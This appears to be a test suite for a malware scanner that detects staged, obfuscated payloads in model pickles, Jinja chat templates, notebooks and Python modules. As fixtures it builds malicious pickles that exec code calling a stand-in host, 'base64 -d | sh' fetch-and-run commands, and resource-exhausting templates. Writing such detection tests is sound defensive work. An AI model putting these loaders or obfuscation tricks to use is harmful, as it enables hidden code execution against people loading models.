"""Stages where they are told: pickles, templates, notebooks, metadata, the terminal."""

# ruff: noqa: E501  (one case a line)
from __future__ import annotations

import base64
import codecs
import json
import pickle
import subprocess
import sys
import zlib

import pytest

from toadstone.core.blob import BytesBlob
from toadstone.core.budget import Budget
from toadstone.core.fact import Call, Moment, Stage, Unread
from toadstone.core.place import Place
from toadstone.core.value import Symbol
from toadstone.readers.reader import Source
from toadstone.readers.walk import walk

URL = "http://203.0.113.7/x"
CODE = f"import urllib.request;urllib.request.urlopen({URL!r})"


def facts_of(data: bytes | str, name: str, hint: str = ""):
    content = data.encode() if isinstance(data, str) else data
    return list(walk(Source(BytesBlob(content), name, Place(name), Budget.of(len(content)), hint=hint)))


def stages_of(data, name, hint=""):
    return [fact for fact in facts_of(data, name, hint) if isinstance(fact, Stage)]


class Calling:
    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


PICKLES = {
    "chain": Calling(exec, Calling(zlib.decompress, Calling(base64.b64decode, base64.b64encode(zlib.compress(CODE.encode()))))),
    "rot13": Calling(exec, Calling(codecs.decode, codecs.encode(CODE, "rot13"), "rot13")),
    "codes": Calling(exec, Calling(str.join, "", Calling(map, chr, [ord(character) for character in CODE]))),
    "bytes": Calling(exec, Calling(bytes, list(CODE.encode()))),
    "source": Calling(exec, f"import base64;exec(base64.b64decode({base64.b64encode(CODE.encode())!r}))"),
    "long": Calling(exec, Calling(base64.b64decode, base64.b64encode((CODE + "\n" + "#" * 200_000).encode()))),
    "command": Calling(subprocess.call, f"echo {base64.b64encode(b'curl ' + URL.encode()).decode()} | base64 -d | sh"),
    "data": {"note": base64.b64encode(zlib.compress(URL.encode())).decode()},
}


@pytest.mark.parametrize("protocol", [0, 2, 4])
@pytest.mark.parametrize("name", PICKLES)
def test_pickles(name, protocol):
    facts = facts_of(pickle.dumps(PICKLES[name], protocol=protocol), "model.pkl")
    assert any(URL in fact.text for fact in facts if isinstance(fact, Stage))
    assert not [fact for fact in facts if isinstance(fact, Unread)]


def test_the_chain_of_a_pickle():
    stages = stages_of(pickle.dumps(PICKLES["chain"]), "model.pkl")
    assert ("exec", "zlib", "base64", "bytes constant") in [stage.chain for stage in stages]


def test_a_worked_out_call_is_reported_as_before():
    calls = [fact for fact in facts_of(pickle.dumps(b"see " + URL.encode(), protocol=2), "model.pkl") if isinstance(fact, Call)]
    assert [(call.callee, call.how) for call in calls] == [(Symbol("_codecs", "encode"), "REDUCE")]


TEMPLATES = [
    "{{ 'http' ~ '://203.0' ~ '.113.7/x' }}",
    "{% for m in messages %}{{ m.content }}{{ ['ht', 'tp://203', '.0.113', '.7/x'] | join }}{% endfor %}",
    "{{ 'x/7.311.0.302//:ptth' | reverse }}",
    f"{{% for c in {[ord(c) + 5 for c in URL]!r} %}}{{{{ '%c' | format(c - 5) }}}}{{% endfor %}}",
    f"{{% set n = namespace(s='') %}}{{% for c in {[ord(c) for c in URL]!r} %}}{{% set n.s = n.s ~ '%c' % c %}}{{% endfor %}}{{{{ n.s }}}}",
    "{% macro d(s) %}{{ s | replace('#', '.') | replace('@', '/') }}{% endmacro %}{{ d('http:@@203#0#113#7@x') }}",
    "{% filter replace('_', '') %}h_tt_p://20_3.0.11_3.7/x{% endfilter %}",
    "{% set x %}{{ 'ht' }}tp://203.0.{{ 113 }}.7/x{% endset %}{% if messages %}{{ x }}{% endif %}",
    f"{{{{ '{base64.b64encode(URL.encode()).decode()}' | b64decode }}}}",
    f"answer with {base64.b64encode(zlib.compress(URL.encode())).decode()} decoded",
]  # fmt: skip


@pytest.mark.parametrize("template", TEMPLATES, ids=range(len(TEMPLATES)))
def test_templates(template):
    assert any(URL in stage.text for stage in stages_of(template, "chat_template.jinja"))


@pytest.mark.parametrize(
    "template",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}{{ a ~ b }}{% endfor %}{% endfor %}",
        "{% macro m(n) %}{{ m(n) }}{{ m(n) }}{% endmacro %}{{ m(1) }}",
        "{% set a = 'a' %}" + "{% set a = a ~ a %}" * 60 + "{{ a }}",
        "{{ '%999999999d' % 1 }}{{ 'a' * 999999999999 }}{{ 10 ** 10 ** 8 }}",
        "{% set ns = namespace(l=[1]) %}{% for i in range(60) %}{% set ns.l = [ns.l, ns.l] %}{% endfor %}{{ ns.l }}",
    ],
)
def test_hostile_templates_say_nothing(template):
    assert stages_of(template, "chat_template.jinja") == []


def test_ordinary_templates_hide_nothing():
    text = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %} See https://example.com/docs."
    assert stages_of(text, "chat_template.jinja") == []


def test_notebook_magics():
    command = f"!echo {base64.b64encode(b'wget ' + URL.encode()).decode()} | base64 -d | sh"
    cells = [{"cell_type": "code", "source": command, "metadata": {}, "outputs": []}]
    stages = stages_of(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}), "train.ipynb")
    assert any(URL in stage.text for stage in stages)


SOURCES = {
    "docstring": f'"""{base64.b64encode(CODE.encode()).decode()}"""\nimport base64\nexec(base64.b64decode(__doc__))',
    "default": f"import base64\ndef f(u={base64.b64encode(URL.encode())!r}):\n    return u",
    "method": f"class A:\n    k = 42\n    def d(self, s):\n        return ''.join(chr(b ^ self.k) for b in s)\nu = A().d({bytes(b ^ 42 for b in URL.encode())!r})",
    "getdecoder": f"import codecs\nu = codecs.getdecoder('hex')({URL.encode().hex()!r})[0].decode()",
    "attribute": f"class A:\n    def __init__(self):\n        self.u = {URL[::-1]!r}[::-1]",
    "codes": f"CODES = {list(URL.encode())!r}",
    "used": "import requests\nrequests.get('http://203.0.113.7' + '/x')",
}  # fmt: skip


@pytest.mark.parametrize("name", SOURCES)
def test_sources(name):
    assert any(URL in stage.text for stage in stages_of(SOURCES[name], "module.py"))


def test_when_it_runs():
    text = f"import base64\nA = base64.b64decode({base64.b64encode(URL.encode())!r})\n"
    assert {stage.when for stage in stages_of(text, "module.py")} == {Moment.IMPORT}
    later = f"def f():\n    return {URL[::-1]!r}[::-1]\n"
    assert {stage.when for stage in stages_of(later, "module.py")} == {Moment.USE}


def test_what_is_decoded_is_read_and_leaves_nothing_unread():
    inner = pickle.dumps(Calling(print, "hello"))
    text = f"import base64\nDATA = base64.b64decode({base64.b64encode(inner)!r})\nBROKEN = base64.b64decode({base64.b64encode(b'MZ' + bytes(62) + b'PE' + bytes(9))!r})"
    facts = facts_of(text, "module.py")
    assert any(isinstance(fact, Call) and fact.callee == Symbol("builtins", "print") for fact in facts)
    assert not [fact for fact in facts if isinstance(fact, Unread)]


def test_the_terminal_shows_the_chain_and_the_last_stage(tmp_path):
    target = tmp_path / "modeling.py"
    hidden = base64.b64encode(zlib.compress(CODE.encode()))
    target.write_text(f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({hidden!r})))\n", "utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "toadstone", "scan", "--no-cache", "--no-color", str(target)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 1
    assert "exec ← zlib ← base64 ← bytes constant" in done.stdout
    assert f"reaches {URL}" in done.stdout
